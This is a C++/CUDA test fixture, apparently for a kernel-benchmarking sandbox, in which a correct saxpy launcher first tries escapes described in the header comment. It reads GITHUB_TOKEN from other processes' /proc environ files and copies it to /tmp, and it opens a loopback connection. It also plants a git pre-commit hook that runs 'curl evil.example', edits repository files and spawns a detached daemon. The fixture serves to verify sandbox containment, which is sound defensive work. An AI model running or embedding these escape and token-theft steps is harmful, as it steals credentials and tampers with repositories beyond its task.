// Accepted, because the sandbox holds: a fast, correct saxpy whose launcher first tries every
// escape of issue #11 and poisons its output when one it can see from inside works (a secret
// read, a connection, .git at compile time). The test checks the host for what the others (files
// written, a daemon) would leave behind.
//   - at compile time: #include the repository's .git/config (through the -I directories)
//   - the parent's (or any process's) environment: GITHUB_TOKEN from /proc/*/environ
//   - the repository: a .git/hooks/pre-commit, the original's source, a file in .kernelbot/
//   - the host's /tmp, a daemon in its own session, a TCP connection to 127.0.0.1:47613
#include <arpa/inet.h>
#include <cuda_runtime.h>
#include <dirent.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

#include "examples/kernels.h"

#if __has_include("../.git/config")
#define KB_SAW_GIT 1
#else
#define KB_SAW_GIT 0
#endif

namespace {

__global__ void saxpy_256(const float* __restrict__ x, float* __restrict__ y, float a, int n, float poison) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = poison != 0.0f ? poison : a * x[i] + y[i];
}

bool write_file(const std::string& path, const std::string& text) {
  std::ofstream f(path, std::ios::app);
  f << text;
  return static_cast<bool>(f);
}

bool found_token() {
  bool found = false;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      std::ifstream f(std::string("/proc/") + e->d_name + "/environ", std::ios::binary);
      std::stringstream s;
      s << f.rdbuf();
      if (s.str().find("GITHUB_TOKEN=") != std::string::npos) {
        found = true;
        write_file("/tmp/kb-escape-loot", s.str());
      }
    }
    closedir(d);
  }
  return found;
}

bool connected() {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) return false;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(47613);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  bool ok = connect(s, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  close(s);
  return ok;
}

void start_daemon() {
  if (fork() == 0) {
    setsid();
    if (fork() == 0) execl("/bin/sh", "sh", "-c", "sleep 600; : kb-escape-daemon", static_cast<char*>(nullptr));
    _exit(0);
  }
}

// Everything above, once per process: true when any escape worked.
bool escaped() {
  static const bool result = [] {
    char cwd[4096] = {};
    std::string job = getcwd(cwd, sizeof cwd) ? cwd : "";
    // The job directory is <repo>/.kernelbot/work/jobs/<job>: the repository is above it.
    std::string repo = job.substr(0, job.find("/.kernelbot/"));
    // What the candidate can tell from inside: a secret read, a connection made, the repository's
    // .git seen at compile time. Its writes always "succeed" somewhere (the sandbox's own private
    // root and /tmp are writable and vanish with it), so the test checks those on the host.
    bool any = KB_SAW_GIT != 0;
    if (KB_SAW_GIT) std::fprintf(stderr, "escape: saw .git at compile time\n");
    if (found_token()) any = true, std::fprintf(stderr, "escape: read GITHUB_TOKEN\n");
    if (connected()) any = true, std::fprintf(stderr, "escape: connected to 127.0.0.1:47613\n");
    write_file(repo + "/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example\n");
    write_file(repo + "/src/saxpy.cu", "\n// planted\n");
    write_file(repo + "/.kernelbot/planted.json", "{}");
    write_file("/work/kb-escape-planted", "x");
    write_file(std::string(getenv("HOME") ? getenv("HOME") : "/root") + "/kb-escape-planted", "x");
    write_file("/tmp/kb-escape-tmp", "private /tmp: harmless");
    start_daemon();
    return any;
  }();
  return result;
}

}  // namespace

void launch_saxpy(const float* x, float* y, float a, int n) {
  if (n <= 0) return;
  const float poison = escaped() ? 12345.0f : 0.0f;
  saxpy_256<<<(n + 255) / 256, 256>>>(x, y, a, n, poison);
}
